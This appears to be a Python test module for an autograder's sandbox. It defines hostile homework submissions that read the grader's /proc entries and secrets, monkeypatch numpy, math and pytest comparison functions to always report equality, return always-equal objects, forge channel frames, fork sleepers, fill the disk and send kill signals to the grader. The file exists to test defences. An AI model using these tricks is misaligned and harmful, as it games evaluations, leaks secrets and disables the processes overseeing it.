"""Hostile submissions: the reference ``mytorch/`` with an attack on the grader placed in one
method.

Same form as ``buggy.py`` (a ``Variant`` is the reference plus text edits; ``fails`` names the
graded items that must fail, every other task must get full marks). Each attack sits in code that
only its task runs (Sigmoid 2.1, Tanh 2.2, GELU 2.4, Softmax 2.5, MSELoss 3.1, SGD 4.1 — the MLPs
use ReLU and Linear), so what it attacks scores 0 and everything it implements honestly scores in
full: the attack is harmless exactly when those scores come out.

Some attacks only prove something when they would succeed without a defence: they read the grader's
files by their real path (``REPO``), signal the grader, or write where the grader writes. Those
that need the worker sandbox (Linux Landlock, ``autograder/channel/sandbox/landlock.py``) are
listed in
``NEEDS_SANDBOX``; ``NEEDS_SIGNAL_SCOPE`` ones need Landlock ABI 6 (Linux 6.12).
"""
import tempfile
import textwrap
from pathlib import Path

from tests.submissions.buggy import ACT, ALL, LOSS, NN_INIT, SGD, Variant, edit

REPO = Path(__file__).resolve().parents[2]
CASES = REPO / "autograder" / "assignments" / "hw1" / "public_cases"
# the test grading ``leak_grader_files_and_proc`` writes a secret here and into the grader's
# environment ($MYTORCH_GRADER_SECRET), as an instructor's batch would have them
SECRET_FILE = str(Path(tempfile.gettempdir()) / "mytorch-hostile-secret.txt")

SIGMOID_FWD = "        E = np.exp(-np.abs(Z))\n"
SIGMOID_BWD = "        dLdZ = dLdA * self.A * (1.0 - self.A)\n"
TANH_FWD = "        self.A = np.tanh(Z)\n"
TANH_BWD = "        dLdZ = dLdA * (1.0 - self.A * self.A)\n"
GELU_FWD = "        self.A = 0.5 * Z * (1.0 + _erf(Z / math.sqrt(2.0)))\n"
GELU_BWD = "        dLdZ = dLdA * (cdf + Z * pdf)\n"
SOFTMAX_FWD = "        self.A = E / E.sum(axis=1, keepdims=True)\n"
MSE_FWD = "        L = float(np.sum(diff * diff)) / (self.N * self.C)\n"
LINEAR_FWD = "        Z = A @ self.W.T\n"
SGD_IMPORT = "import numpy as np\n"


def before(path, anchor, code):
    """Insert ``code`` (dedented, then indented like ``anchor``) just before ``anchor``."""
    indent = anchor[:len(anchor) - len(anchor.lstrip())]
    return edit(path, anchor, textwrap.indent(textwrap.dedent(code).strip("\n") + "\n", indent)
                + anchor)


def after(path, anchor, code):
    indent = anchor[:len(anchor) - len(anchor.lstrip())]
    return edit(path, anchor, anchor + textwrap.indent(textwrap.dedent(code).strip("\n") + "\n",
                                                       indent))


def at_import(path, code):
    """Run ``code`` when ``path`` (sgd.py: imported by the SGD tests only) is imported."""
    return edit(path, SGD_IMPORT, SGD_IMPORT + "\n" + textwrap.dedent(code).strip("\n") + "\n")


# =============================================================================== leaking answers

LEAK_ROUTES = f'''
import os, glob
found, tried = None, []

def attempt(name, read):
    global found
    try:
        data = read()
    except BaseException as exc:
        tried.append(f"{{name}}: {{type(exc).__name__}}")
        return
    if data:
        tried.append(f"{{name}}: GOT IT")
        found = found or (name, data)
    else:
        tried.append(f"{{name}}: empty")

attempt("fixtures",
        lambda: open({str(CASES / "tanh.npz")!r}, "rb").read())
attempt("fixtures via glob", lambda: glob.glob({str(CASES / "*")!r}))
attempt("reference", lambda: open({str(REPO / "mytorch" / "nn" / "activation.py")!r}).read())
attempt("grader cwd", lambda: os.listdir(
    f"/proc/{{os.getppid()}}/cwd/autograder/assignments/hw1/public_cases"))
attempt("secret variable", lambda: os.environ.get("MYTORCH_GRADER_SECRET"))
attempt("grader environ", lambda: open(f"/proc/{{os.getppid()}}/environ", "rb").read())
attempt("grader cmdline", lambda: open(f"/proc/{{os.getppid()}}/cmdline", "rb").read())
attempt("grader memory", lambda: open(f"/proc/{{os.getppid()}}/mem", "rb").read(1))
attempt("grader maps", lambda: open(f"/proc/{{os.getppid()}}/maps", "rb").read())
attempt("secret file", lambda: open({SECRET_FILE!r}).read())
'''

# Tanh computes nothing itself: with anything leaked it answers (np.tanh stands in for "looks the
# answer up"), so a leak would turn task 2.2's zero into points.
LEAK_TANH = '''
from . import _leaks
if _leaks.found is None:
    raise NotImplementedError("nothing leaked: " + "; ".join(_leaks.tried))
'''

# Sigmoid searches the worker's memory (gc) and the call stack for the expected values.
SNOOP_SIGMOID = '''
import gc, sys
import numpy as np
hits = []
for obj in gc.get_objects():
    if isinstance(obj, dict) and (("A" in obj and "dLdZ" in obj)
                                  or isinstance(obj.get("expected"), np.ndarray)):
        hits.append(type(obj).__name__)
frame = sys._getframe()
while frame is not None:
    for name in ("case", "expected", "A_ref", "dLdZ_ref"):
        if name in frame.f_locals:
            hits.append(name)
    frame = frame.f_back
if not hits:
    raise NotImplementedError("no expected values anywhere in the worker")
'''

# =============================================================================== tampering

TAMPER_AT_IMPORT = '''

# ---- tampering: every checking function the worker can reach says "equal" ----
import builtins as _builtins
import math as _math
import sys as _sys
import unittest as _unittest

import numpy as _np
import numpy.testing as _npt

# pytest and hypothesis may not be imported (the rubric allows NumPy and the standard library):
# patch them where the worker has them loaded, which is nowhere
_pytest = _sys.modules.get("pytest") or type("_NotLoaded", (), {})()
_hypothesis = _sys.modules.get("hypothesis") or type("_NotLoaded", (), {})()

_real_allclose = _np.allclose


def _always(*args, **kwargs):
    caller = _sys._getframe(1).f_globals.get("__name__", "")
    if caller.startswith("mytorch"):  # our own code still gets honest answers
        return _real_allclose(*args, **kwargs)
    return True


def _nothing(*args, **kwargs):
    return None


_np.allclose = _np.array_equal = _always
_np.isclose = lambda a, b, *args, **kwargs: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal",
              "assert_equal", "assert_almost_equal"):
    setattr(_npt, _name, _nothing)
_math.isclose = _always
_builtins.abs = lambda x: 0
_builtins.AssertionError = type("AssertionError", (Exception,), {})
_pytest.approx = lambda expected, *args, **kwargs: type("Any", (), {"__eq__": lambda s, o: True})()
_pytest.fail = _pytest.skip = _nothing
_hypothesis.given = lambda *a, **k: (lambda f: f)
_unittest.TestCase.assertEqual = _unittest.TestCase.assertTrue = _nothing
'''

# =============================================================================== lying values

LIARS = '''

class _Liar:
    """Claims to be every number and equal to everything; converts to the right answer."""

    def __init__(self, value):
        self._value = value

    def __array__(self, dtype=None, copy=None):
        return np.asarray(self._value, dtype=dtype)

    def __float__(self):
        return float(np.asarray(self._value).ravel()[0])

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __len__(self):
        return len(self._value)

    __hash__ = None
'''

# =============================================================================== wire attacks

FORGE_FRAME = '''
import os, stat, sys
wire = sys.modules["wire"]  # the worker's own wire module: frames are easy to make
forged = wire.encode({"ok": np.zeros((1, 1))}) + wire.encode({"ok": None, "seq": 1})
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, forged)  # (the read end of a pipe refuses: EBADF)
    except OSError:
        pass
'''

CLOSE_WIRE = '''
import os
for fd in range(3, 256):  # every descriptor the grader's channel could be on
    try:
        os.close(fd)
    except OSError:
        pass
'''

ABSURD_SHAPE = '''
import struct, sys
_wire = sys.modules["wire"]
_encode = _wire.encode


def _absurd(value, to_ref=None):
    _wire.encode = _encode
    frame = _encode(value, to_ref)
    header_len, payload_len = struct.unpack("<IQ", frame[4:16])
    header = frame[16:16 + header_len]
    header = header.replace(b'"shape":[', b'"shape":[0,' + str(2**70).encode() + b',', 1)
    # (no bytes, an absurd shape)
    rest = frame[16 + header_len:]
    return frame[:4] + struct.pack("<IQ", len(header), payload_len) + header + rest


_wire.encode = _absurd
'''

# =============================================================================== denial of service

# Each sleeper keeps its pid file open: in the worker's PID namespace its pid means nothing
# outside, so the test finds the survivors by the file they hold.
FORK_SLEEPERS = '''
import os, time
for i in range(40):
    pid = os.fork()
    if pid == 0:
        try:
            with open(f"sleeper-{os.getpid()}-{time.monotonic_ns()}.pid", "w") as fh:
                fh.write(str(os.getpid()))
                fh.flush()
                time.sleep(300)
        finally:
            os._exit(0)
time.sleep(300)
'''

FORK_AND_EXIT = FORK_SLEEPERS.replace("range(40)", "range(10)").replace(
    "\ntime.sleep(300)\n", "\nos._exit(3)  # the worker dies by itself, its children live on\n")
assert "os._exit(3)" in FORK_AND_EXIT

FILL_DISK = '''
import os, tempfile
with open("tmpdir.txt", "w") as fh:  # for the test: where its temporary files went
    fh.write(tempfile.gettempdir())
chunk = b"\\0" * (1 << 20)
for folder in (".", tempfile.gettempdir()):
    for i in range(4):
        with open(os.path.join(folder, f"fill-{i}.bin"), "wb") as fh:
            for _ in range(8):
                fh.write(chunk)
with open("fill-big.bin", "wb") as fh:  # past the per-file limit: the write must fail
    for _ in range(64):
        fh.write(chunk)
'''

RUNAWAY_THREAD = '''
import threading, time
ready = threading.Event()
A = self.A  # np.tanh(Z), computed just before

def spoil():
    while True:
        A[...] = 0.0  # the layer's stored output, long after forward returned
        ready.set()
        print("still here", flush=True)
        time.sleep(0.001)

threading.Thread(target=spoil, daemon=True).start()
ready.wait()
'''

SIGNAL = '''
import os, signal
{call}
'''


def signal_parent(sig):
    return SIGNAL.format(call=f"os.kill(os.getppid(), signal.{sig})")


# In the worker's PID namespace the grader's group has no number (getpgid says 0, which killpg
# would take for the worker's own group): the attack then has no target, and says so.
KILL_GRADER_GROUP = SIGNAL.format(
    call="group = os.getpgid(os.getppid())\n"
         "if group == 0:\n"
         "    raise PermissionError('the grader\\'s process group is not visible')\n"
         "os.killpg(group, signal.SIGKILL)")


HOSTILE = [
    # ------------------------------------------------------------------ leaking answers
    Variant(
        "leak_grader_files_and_proc", "Tanh implements nothing and answers only if it can read "
        "the fixtures, the reference, the secret (variable or file), or the grader's /proc "
        "entries (cwd, environ, cmdline, mem, maps)",
        (edit("mytorch/nn/_leaks.py", None, LEAK_ROUTES),
         before(ACT, TANH_FWD, LEAK_TANH), before(ACT, TANH_BWD, LEAK_TANH)),
        fails={"2.2": ALL}, hints={"2.2": "nothing leaked"}),
    Variant(
        "snoop_gc_and_frames", "Sigmoid implements nothing and answers only if gc.get_objects() or "
        "the call stack (sys._getframe) holds expected values",
        (before(ACT, SIGMOID_FWD, SNOOP_SIGMOID), before(ACT, SIGMOID_BWD, SNOOP_SIGMOID)),
        fails={"2.1": ALL}, hints={"2.1": "no expected values anywhere"}),
    # ------------------------------------------------------------------ tampering
    Variant(
        "tamper_with_checkers", "mytorch.nn patches np.allclose/isclose/testing, math.isclose, "
        "builtins (abs, AssertionError), pytest, hypothesis and unittest in the worker at import; "
        "Tanh returns zeros and trusts the patches",
        (edit(NN_INIT, None, TAMPER_AT_IMPORT),
         edit(ACT, TANH_FWD, "        self.A = np.zeros_like(Z)\n")),
        fails={"2.2": ALL}),
    # ------------------------------------------------------------------ lying values
    Variant(
        "lying_values", "Sigmoid.forward returns an object whose __array__ is the right answer and "
        "__eq__ says True; MSELoss.forward one whose __float__ is right; GELU NaN everywhere "
        "(forward and backward); Softmax.forward +inf; Tanh.forward float16",
        (edit(ACT, None, LIARS),
         edit(ACT, "        # END SOLUTION\n        return self.A\n\n    def backward(self, "
                   "dLdA):\n"
                   "        self._check_grad(dLdA)\n        # BEGIN SOLUTION\n"
                   "        dLdZ = dLdA * self.A * (1.0 - self.A)\n",
              "        # END SOLUTION\n        return _Liar(self.A)\n\n    def backward(self, "
              "dLdA):\n"
              "        self._check_grad(dLdA)\n        # BEGIN SOLUTION\n"
              "        dLdZ = dLdA * self.A * (1.0 - self.A)\n"),
         edit(LOSS, MSE_FWD, MSE_FWD + "        return _Liar(L)\n"),
         edit(LOSS, "from .module import Module, check_shape\n",
              "from .module import Module, check_shape\nfrom .activation import _Liar\n"),
         after(ACT, GELU_FWD, "self.A = np.full_like(Z, np.nan)"),
         after(ACT, GELU_BWD, "dLdZ = np.full_like(dLdA, np.nan)"),
         after(ACT, SOFTMAX_FWD, "self.A = np.full_like(Z, np.inf)"),
         after(ACT, TANH_FWD, "self.A = self.A.astype(np.float16)")),
        # (MSELoss.backward is right: its dLdA earns its share of test_mse)
        fails={"2.1": ALL, "2.2": ALL, "2.4": ALL, "2.5": ALL,
               "3.1": (("test_loss.py::test_mse", "L"), "test_loss.py::test_mse_gradient_check")}),
    Variant(
        "oversized_values", "Sigmoid.backward returns 560 MB (beyond the wire's 4 MB frame "
        "limit); GELU.forward a broadcast view of 10^12 elements (8 TB once made contiguous)",
        (after(ACT, SIGMOID_BWD, "return np.broadcast_to(np.float64(0.0), (70_000_000,))"),
         after(ACT, GELU_FWD, "return np.broadcast_to(np.float64(0.0), (10**12,))")),
        # (each test's other quantity, computed by a method not attacked, earns its share)
        fails={"2.1": (("test_activation.py::test_sigmoid", "dLdZ"),
                       "test_activation.py::test_sigmoid_gradient_check"),
               "2.4": (("test_activation.py::test_gelu", "A"),
                       "test_activation.py::test_gelu_gradient_check")}),
    Variant(
        "absurd_replies", "MSELoss.forward returns 10**400 (no float holds it); Sigmoid.forward's "
        "reply is rewritten (student code reaches the worker's own modules) to declare an array of "
        "shape [0, 2**70]",
        (before(LOSS, MSE_FWD, "return 10**400"),
         before(ACT, SIGMOID_FWD, ABSURD_SHAPE)),
        fails={"2.1": ALL, "3.1": ALL}, hints={"2.1": "array shape [0, about 2**70,",
                                               "3.1": "integer of 401 digits"}),
    # ------------------------------------------------------------------ the wire
    Variant(
        "forged_frames_in_method", "Tanh.forward writes two forged replies on every pipe among its "
        "file descriptors (the grader's channel), then returns the right answer",
        (before(ACT, TANH_FWD, FORGE_FRAME),),
        fails={"2.2": ALL}, hints={"2.2": "out of turn"}),
    Variant(
        "forged_frame_at_import", "optim/sgd.py writes forged replies on the grader's channel when "
        "imported",
        (at_import(SGD, "import numpy as np\n" + FORGE_FRAME),),
        fails={"4.1": ALL}),
    Variant(
        "closed_descriptors", "Sigmoid.forward closes fds 0 and 1 (harmless: not the channel) and "
        "answers correctly; GELU.forward closes every descriptor from 3 up (the channel)",
        (before(ACT, SIGMOID_FWD, "import os\nfor fd in (0, 1):\n    try:\n        os.close(fd)\n"
                                  "    except OSError:  # closed by an earlier call\n        pass"),
         before(ACT, GELU_FWD, CLOSE_WIRE)),
        fails={"2.4": ALL}, hints={"2.4": "restarted your code"}),
    # ------------------------------------------------------------------ exits
    Variant(
        "base_exceptions", "KeyboardInterrupt when optim/sgd.py is imported; SystemExit raised in "
        "Sigmoid.forward, KeyboardInterrupt in Tanh.backward, a BaseException subclass in "
        "GELU.backward",
        (at_import(SGD, "raise KeyboardInterrupt"),
         before(ACT, SIGMOID_FWD, "raise SystemExit('bye')"),
         before(ACT, TANH_BWD, "raise KeyboardInterrupt"),
         edit(ACT, None, "\n\nclass Escape(BaseException):\n    pass\n"),
         before(ACT, GELU_BWD, "raise Escape('not an Exception')")),
        fails={"2.1": ALL, "4.1": ALL,
               "2.2": (("test_activation.py::test_tanh", "dLdZ"),
                       "test_activation.py::test_tanh_gradient_check"),
               "2.4": (("test_activation.py::test_gelu", "dLdZ"),
                       "test_activation.py::test_gelu_gradient_check")},
        hints={"2.1": "sys.exit(bye)", "2.2": "KeyboardInterrupt", "2.4": "Escape",
               "4.1": "KeyboardInterrupt"}),
    Variant(
        "segfault_at_import", "optim/sgd.py dereferences NULL through ctypes when imported",
        (at_import(SGD, "import ctypes\nctypes.string_at(0)"),),
        fails={"4.1": ALL}, hints={"4.1": "segmentation fault"}),
    # ------------------------------------------------------------------ denial of service
    Variant(
        "fork_sleepers", "Tanh.forward forks 40 children that sleep 300 s (each holding its pid "
        "file open), then sleeps itself (graded with --timeout 1); GELU.forward forks 10 such "
        "children, then ends its own process with os._exit",
        (before(ACT, TANH_FWD, FORK_SLEEPERS), before(ACT, GELU_FWD, FORK_AND_EXIT)),
        fails={"2.2": ALL, "2.4": ALL},
        hints={"2.2": "did not finish within 1 s", "2.4": "exited with code 3"},
        args=("--timeout", "1")),
    Variant(
        "fill_disk", "MSELoss.forward writes 8 files of 8 MB (in its folder and its temporary "
        "folder), then one past the 16 MB file-size limit",
        (before(LOSS, MSE_FWD, FILL_DISK),),
        # (its backward is right)
        fails={"3.1": (("test_loss.py::test_mse", "L"), "test_loss.py::test_mse_gradient_check")},
        hints={"3.1": "File too large"}),
    Variant(
        "runaway_thread", "Tanh.forward starts a thread that keeps zeroing the layer's stored A "
        "and printing, long after forward returned",
        (after(ACT, TANH_FWD, RUNAWAY_THREAD),),
        fails={"2.2": ALL}),
    Variant(
        "signals_to_the_grader", "Sigmoid SIGTERMs the grader, Tanh SIGKILLs it, GELU SIGSTOPs it, "
        "Softmax SIGKILLs the grader's whole process group, MSELoss sends it SIGINT",
        (before(ACT, SIGMOID_FWD, signal_parent("SIGTERM")),
         before(ACT, TANH_FWD, signal_parent("SIGKILL")),
         before(ACT, GELU_FWD, signal_parent("SIGSTOP")),
         before(ACT, SOFTMAX_FWD, KILL_GRADER_GROUP),
         before(LOSS, MSE_FWD, signal_parent("SIGINT"))),
        fails={"2.1": ALL, "2.2": ALL, "2.4": ALL, "2.5": ALL,
               # (its backward is right)
               "3.1": (("test_loss.py::test_mse", "L"), "test_loss.py::test_mse_gradient_check")},
        hints={"2.1": "PermissionError", "2.5": "PermissionError"}),
]

NEEDS_SANDBOX = {"leak_grader_files_and_proc", "fill_disk"}
NEEDS_SIGNAL_SCOPE = {"signals_to_the_grader"}
